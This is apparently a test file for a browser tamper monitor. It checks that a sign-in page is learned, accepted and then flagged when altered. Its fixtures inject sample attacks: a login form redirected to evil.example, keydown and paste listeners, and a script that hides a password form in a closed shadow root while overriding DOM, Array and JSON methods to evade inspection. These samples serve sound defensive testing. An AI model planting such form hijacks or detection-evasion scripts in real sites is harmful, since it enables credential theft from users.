import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { comparePage, type Fingerprint, learnPage } from '@mdmkit/monitor/tamper';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { acceptBaseline, brokenVersions, proposeBaselines } from '../../src/journeys/baselines.ts';
import { createJourneys, type Journeys } from '../../src/journeys/journeys.ts';
import { judgePages } from '../../src/journeys/judge-pages.ts';
import { createSqliteStore } from '../../src/store/sqlite/create-sqlite-store.ts';
import type { Store } from '../../src/store/store.ts';
import { browserProgram, hasBrowser } from '../support/browser.ts';
import { type TemporaryFolder, temporaryFolder } from '../support/folder.ts';
import { journeyRequest } from './journey-request.ts';

const needsChromium = hasBrowser ? '' : ` (skipped: ${browserProgram} is not installed)`;
const plain = `<!doctype html><title>Sign in</title><link rel="icon" href="data:,"><h1>Sign in</h1>
<form method="post" action="/login"><input name="user"><input name="password" type="password"><button>Go</button></form>
<footer>2026-11-30 12:34:56</footer>`;

describe.skipIf(!hasBrowser)(`tamper detection in Chromium${needsChromium}`, () => {
  let html = plain;
  let attack = '';
  let folder: TemporaryFolder;
  let store: Store;
  let origin = '';
  let journeys: Journeys;
  const server = createServer((request, response) => {
    if (request.url !== '/login') return void response.writeHead(404).end();
    response.writeHead(200, { 'content-type': 'text/html; charset=utf-8', 'x-frame-options': 'DENY' });
    response.end(`${html}${attack}`);
  });
  beforeAll(async () => {
    server.listen(0, '127.0.0.1');
    await new Promise((resolve) => server.once('listening', resolve));
    origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    folder = await temporaryFolder();
    store = createSqliteStore({ folder: folder.path, thread: 'caller' });
    await store.migrate();
    journeys = createJourneys({ settings: () => ({}), memory: store });
  });
  afterAll(async () => {
    await journeys[Symbol.asyncDispose]();
    await store.close();
    server.closeAllConnections();
    server.close();
    await folder[Symbol.asyncDispose]();
  });

  const loadOf = async (target: string) => {
    const outcome = await journeys.run(
      journeyRequest(
        origin,
        { steps: [{ goto: '/login' }, { fingerprint: 'sign-in' }] },
        { target, allowedOrigins: [origin] },
      ),
      new AbortController().signal,
    );
    expect(outcome.failure).toBeUndefined();
    return outcome;
  };

  test('a page is learned, accepted, found tampered, and accepted again', async () => {
    const target = 'own/browser';
    const show = async (text: string, added = '') => {
      [html, attack] = [text, added];
      const [page] = (await loadOf('scratch/browser')).pages;
      if (!page) throw new Error('the page was not read');
      return page;
    };
    const changed = plain.replace('12:34:56', '23:45:01').replace('Go</button>', 'Continue</button>');
    const welcome = plain.replace('<h1>Sign in', '<h1>Welcome');
    const [asPlain, asChanged, asEvil, asWelcome, asListening] = [
      await show(plain),
      await show(changed),
      await show(plain.replace('action="/login"', 'action="https://evil.example/login"')),
      await show(welcome),
      await show(welcome, '<script>document.addEventListener("keydown", () => {})</script>'),
    ];
    let session = 0;
    /** Judges a load, and the load that confirms it or does not. */
    const load = async (page: Fingerprint, again = page) => {
      session += 1;
      const [judged] = await judgePages([page], {
        target,
        session: String(session),
        memory: store,
        nowMs: session,
        isDeploy: false,
        reload: async () => await Promise.resolve([again]),
      });
      return judged;
    };
    const accept = async () => {
      const [proposal] = await proposeBaselines(store, target);
      if (!proposal) throw new Error('there is no page');
      expect(proposal.missing).toBeUndefined();
      return await acceptBaseline(store, target, proposal, { by: 'an operator', reason: 'a test', atMs: 1 });
    };
    for (let count = 1; count <= 5; count += 1) {
      expect(await load(asPlain)).toMatchObject({ state: 'learning' });
      const [proposal] = await proposeBaselines(store, target);
      if (count < 5) expect(proposal?.missing).toMatchObject({ loads: 5 - count });
    }
    expect(await accept()).toBe(1);
    // From here on, a journey itself compares with what was accepted.
    [html, attack] = [plain, ''];
    expect((await loadOf(target)).judged).toMatchObject([{ page: 'sign-in', state: 'same', changes: [] }]);
    expect(await load(asChanged)).toMatchObject({ state: 'changed' });
    expect((await proposeBaselines(store, target))[0]?.changes.map(({ severity }) => severity)).toContain('notice');
    expect(await load(asEvil)).toMatchObject({
      state: 'tampered',
      changes: expect.arrayContaining([
        { property: 'forms', kind: 'added', value: 'post https://evil.example/login', severity: 'critical' },
      ]),
    });
    // An attack that is over is not accepted with the next change of one's own.
    expect(await load(asWelcome)).toMatchObject({ state: 'changed' });
    expect(await accept()).toBe(2);
    expect(await load(asWelcome)).toMatchObject({ state: 'same' });
    expect(await load(asEvil)).toMatchObject({ state: 'tampered' });
    const versions = await store.pageBaselines(target);
    expect(versions.map(({ version, acceptedBy, reason }) => [version, acceptedBy, reason])).toEqual([
      [2, 'an operator', 'a test'],
      [1, 'an operator', 'a test'],
    ]);
    expect(brokenVersions(versions)).toEqual([]);
    expect(brokenVersions(versions.map((each) => ({ ...each, acceptedBy: 'another' })))).toHaveLength(2);

    // An attack on every second load is never confirmed by the load after it; the third time it counts.
    expect(await load(asListening, asWelcome)).toMatchObject({ state: 'seen-once' });
    expect(await load(asListening, asWelcome)).toMatchObject({ state: 'seen-once' });
    expect(await load(asListening, asWelcome)).toMatchObject({ state: 'tampered' });
  });

  test('a page that replaces what reads it, and hides what it does, is read all the same', async () => {
    [html, attack] = [plain, ''];
    const [before] = (await loadOf('other/browser')).pages;
    html = `${plain}<form name="querySelectorAll" action="https://evil.example/a"><input name="attributes"><input
      name="tagName"></form><img name="body"><div id="host"></div><i id="by-hand"></i><script>
      const frame = document.body.appendChild(document.createElement('iframe'));
      const clean = frame.contentWindow;
      clean.EventTarget.prototype.addEventListener.call(document, 'keydown', () => {});
      clean.EventTarget.prototype.addEventListener.call(window, 'paste', () => {});
      clean.Element.prototype.attachShadow.call(host, { mode: 'closed' }).innerHTML =
        '<form action="https://evil.example/b"><input type="password" name="again"></form>';
      frame.remove();
      document.getElementById('by-hand').oninput = () => {};
      for (const kind of [Document, DocumentFragment, Element]) kind.prototype.querySelectorAll = () => [];
      Element.prototype.getAttribute = () => '';
      Element.prototype.getAttributeNames = () => [];
      for (const name of ['map', 'flatMap', 'filter', 'join', 'slice', 'push']) Array.prototype[name] = () => [];
      Array.prototype[Symbol.iterator] = function* () {};
      window.getComputedStyle = () => ({});
      window.DOMParser = class { parseFromString() { return document.implementation.createHTMLDocument(); } };
      window.PerformanceObserver = class { observe() {} };
      window.setTimeout = () => 0;
      JSON.stringify = () => '{}';
      const notes = globalThis[Symbol.for('health-check.page')];
      try { notes.calls = ''; } catch {}
      try { globalThis[Symbol.for('health-check.page')] = { calls: '' }; } catch {}
      </script>`;
    const [after] = (await loadOf('other/browser')).pages;
    if (!before || !after) throw new Error('a page was not read');
    const added = comparePage(learnPage([before]), after).filter(({ kind }) => kind === 'added');
    expect(added.map(({ property, value, severity }) => `${severity} ${property} ${value}`)).toEqual(
      expect.arrayContaining([
        'critical forms get https://evil.example/a',
        'critical forms get https://evil.example/b',
        'critical inputs password:again in a form',
        'critical listeners keydown@document',
        'critical listeners paste@window',
        'medium listeners input@i',
        'critical received forms get https://evil.example/a',
      ]),
    );
  });
});
